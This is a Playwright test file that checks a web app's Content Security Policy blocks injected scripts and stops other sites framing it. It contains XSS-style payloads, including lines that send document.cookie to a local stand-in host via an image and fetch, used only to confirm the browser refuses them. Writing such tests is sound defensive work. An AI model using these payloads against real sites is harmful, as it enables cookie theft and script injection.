"""The policy holds in a browser, and a page works under it."""

from __future__ import annotations

import contextlib
import socket

import pytest
from playwright.sync_api import Page

from tests.browser.fixtures import Visit

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

ATTACKS = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.stolen = 1' }))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.stolen = 1\">')",
    "script-src": "(() => { try { Function('window.stolen = 1')() } catch {} })()",
    "img-src": "new Image().src = 'http://127.0.0.1:PORT/' + document.cookie",
    "connect-src": "fetch('http://127.0.0.1:PORT/' + document.cookie).catch(() => {})",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:PORT/' }))",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), { href: 'http://127.0.0.1:PORT/' }))",
    "object-src": "document.body.append(Object.assign(document.createElement('object'), { data: 'http://127.0.0.1:PORT/' }))",
}


def came(elsewhere: socket.socket) -> bytes:
    """What was sent there. Chromium may connect for a frame before it looks at the policy, and sends nothing then."""
    elsewhere.setblocking(False)
    sent = b""
    with contextlib.suppress(BlockingIOError):
        while True:
            connection, _ = elsewhere.accept()
            connection.setblocking(False)
            with connection, contextlib.suppress(BlockingIOError):
                sent += connection.recv(4096)
    return sent


def run(page: Page, attack: str) -> str:
    """What the browser refuses of a script that got into the page; nothing, if it does not within five seconds.

    It runs in a timer: the driver's own code may evaluate text."""
    heard = "addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), { once: true })"
    later = f"setTimeout(done, 5000, 'nothing'); setTimeout(() => {{ {attack} }})"
    return str(page.evaluate(f"() => new Promise(done => {{ {heard}; {later} }})"))


def test_a_page_works_and_what_gets_into_it_can_do_nothing(visit: Visit) -> None:
    """That labs with charts work under the policy is what all other browser tests say: `visit` fails them if the console says anything."""
    page = visit("/")
    assert page.locator('[data-testid="stBidiComponentRegular"], [data-testid="stBidiComponentIsolated"]').count(), "no widget was tried"
    assert visit.problems == []
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        for refused, attack in ATTACKS.items():
            assert run(page, attack.replace("PORT", str(elsewhere.getsockname()[1]))) == refused
        page.wait_for_timeout(200)
        assert came(elsewhere) == b""
    assert page.evaluate("window.stolen") is None
    assert visit.problems, "the console said nothing of it: the other tests would not notice either"
    visit.problems.clear()


def test_no_page_elsewhere_can_frame_it(visit: Visit, server: str) -> None:
    page = visit("/")
    framed = page.context.new_page()
    framed.route("http://elsewhere.test/", lambda route: route.fulfill(content_type="text/html", body=f'<iframe src="{server}/"></iframe>'))
    framed.goto("http://elsewhere.test/")
    framed.wait_for_timeout(500)
    assert [frame.url for frame in framed.frames if frame.url.startswith(server)] == []
